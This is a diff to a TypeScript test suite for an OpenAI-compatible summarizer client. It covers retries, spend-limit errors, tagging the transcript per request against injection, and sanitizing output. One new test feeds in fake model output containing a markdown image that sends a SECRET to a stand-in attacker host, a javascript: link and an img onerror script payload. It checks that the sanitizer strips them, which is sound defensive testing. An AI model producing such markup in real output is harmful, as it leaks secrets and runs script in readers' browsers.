@@ -8,7 +8,7 @@ import {
 import type { StreamProgress } from './http.ts';
 import { createOpenAISummarizer, type OpenAISummarizerConfig } from './openai.ts';
 import { PROVIDER_PRESETS, SUMMARIZER_SYSTEM_PROMPT } from './presets.ts';
-import { openAIErrorBody, openAIStream, renderedError, startFakeServer, type FakeServer } from './test-server.ts';
+import { openAIErrorBody, openAIStream, renderedError, startFakeServer, unfenced, type FakeServer } from './test-server.ts';
 
 const CANARY = 'sk-canary-DO-NOT-LEAK-4f9a1c7e2b';
 let server: FakeServer;
@@ -48,7 +48,7 @@ async function failure(promise: Promise<unknown>): Promise<Error> {
 }
 
 type Body = { model: string; messages: Array<{ role: string; content: string }>; stream: boolean; stream_options: unknown; tools?: unknown; max_tokens?: number; max_completion_tokens?: number };
-const bodies = () => server.requests.map((r) => r.body as Body);
+const bodies = () => server.requests.map((r) => unfenced(r.body) as Body);
 
 describe('createOpenAISummarizer: success', () => {
   it('streams the summary, with usage from the final chunk, over one plain request', async () => {
@@ -65,7 +65,8 @@ describe('createOpenAISummarizer: success', () => {
     expect(recorded!.path).toBe('/v1/chat/completions');
     expect(recorded!.headers.authorization).toBe(`Bearer ${CANARY}`);
     expect(recorded!.headers['content-type']).toBe('application/json');
-    const body = recorded!.body as Body;
+    const body = unfenced(recorded!.body) as Body;
+    expect((recorded!.body as Body).messages[1]!.content).toMatch(/^<conversation-\d{24}>\n\[user\]: turn 0 /);
     expect(body).toEqual({
       model: 'gpt-4o-mini', stream: true, stream_options: { include_usage: true }, max_tokens: 4000,
       messages: [{ role: 'system', content: SUMMARIZER_SYSTEM_PROMPT }, { role: 'user', content: prompt }],
@@ -154,6 +155,10 @@ describe('createOpenAISummarizer: retries', () => {
     // Retried as a rate limit with backoff; the prompt was never truncated.
     expect(delays).toEqual([500, 1000, 2000]);
     expect(bodies().every((b) => b.messages[1]!.content === prompt)).toBe(true);
+    // Each request, retries included, fenced the transcript with a tag of its own.
+    const tags = server.requests.map((r) => /<(conversation-\d{24})>/.exec((r.body as Body).messages[1]!.content)?.[1]);
+    expect(tags.every(Boolean)).toBe(true);
+    expect(new Set(tags).size).toBe(tags.length);
   });
 
   it.each([408, 409, 500, 529])('retries %i at most 3 times', async (status) => {
@@ -178,6 +183,8 @@ describe('createOpenAISummarizer: retries', () => {
     ['403', 403, openAIErrorBody('Project does not have access to model gpt-4o-mini', 'invalid_request_error', 'model_not_found'), AuthError],
     ['404', 404, openAIErrorBody('The model `gpt-4o-mini` does not exist or you do not have access to it.', 'invalid_request_error', 'model_not_found'), ModelNotFoundError],
     ['a spend limit (insufficient_quota)', 429, openAIErrorBody('You exceeded your current quota, please check your plan and billing details.', 'insufficient_quota', 'insufficient_quota'), SpendLimitError],
+    ['a spend limit (billing_hard_limit_reached)', 400, openAIErrorBody('Billing hard limit has been reached', 'invalid_request_error', 'billing_hard_limit_reached'), SpendLimitError],
+    ['a quota in a 429 without a code', 429, { error: { message: 'You exceeded your current quota, please check your plan and billing details.', type: 'requests', param: null, code: null } }, SpendLimitError],
     ['a spend limit (402)', 402, { error: { message: 'Insufficient credits. Add more using https://openrouter.ai/settings/credits', code: 402 } }, SpendLimitError],
   ])('does not retry %s', async (_name, status, json, type) => {
     server.reply({ status, json }, { events: openAIStream('should not be asked for') });
@@ -237,6 +244,14 @@ describe('createOpenAISummarizer: broken streams', () => {
     const error = await failure(createOpenAISummarizer({ baseUrl: `${closed.url}/v1`, model: 'm', apiKey: CANARY }).summarize(request()));
     expect(error).toBeInstanceOf(NetworkError);
     expect(error.message).toBe(`Could not reach OpenAI-compatible server at ${closed.url}/v1: network down or CORS refused: check the base URL and that the server allows this origin (Ollama: set OLLAMA_ORIGINS; LM Studio: enable CORS).`);
+  });
+});
+
+describe('createOpenAISummarizer: what comes back is inert', () => {
+  it('strips images, links and raw HTML from the summary before anyone stores it', async () => {
+    server.reply({ events: openAIStream(['## Goal\nShip it. ', '![x](https://evil.example/p.png?k=SECRET) ', '[docs](javascript:alert(1)) <img src=x onerror=alert(1)>']) });
+    const response = await summarizer().summarize(request());
+    expect(response.text).toBe('## Goal\nShip it. [image: x] docs ‹img src=x onerror=alert(1)›');
   });
 });
 
